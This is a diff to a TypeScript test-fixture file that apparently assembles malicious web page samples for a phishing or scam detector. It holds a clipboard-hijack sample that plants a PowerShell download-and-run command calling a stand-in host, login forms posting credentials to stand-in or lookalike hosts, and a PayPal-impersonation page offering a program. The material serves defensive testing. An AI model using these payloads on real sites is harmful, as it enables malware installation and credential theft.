@@ -1,5 +1,6 @@
 import type { GivenDraft } from "./given-draft.ts"
 import { site } from "./innocent-site.ts"
+import { broken, program } from "./rule-cases.ts"
 
 const login = (attributes = `action="/login" method="post"`) =>
   `<form ${attributes}><input type="email" name="email"><input type="password" name="password"><button>Log in</button></form>`
@@ -161,6 +162,11 @@ export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDr
       `<p>Press Windows + R, then Ctrl + V</p><script>document.onclick=()=>navigator.clipboard.writeText("powershell iwr https://gather.example/a | iex")</script>`,
     ),
   ],
+  [
+    "broken-words",
+    site("has letters in words", ours, `<h1>${broken}</h1>${login(`action="https://gather.example/"`)}`),
+  ],
+  ["under-name", site("saves a program", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
   [
     "lookalike-address",
     site("sends to a host with a name in it", ours, `${heading}${login(`action="https://paypal-check.example/in"`)}`),
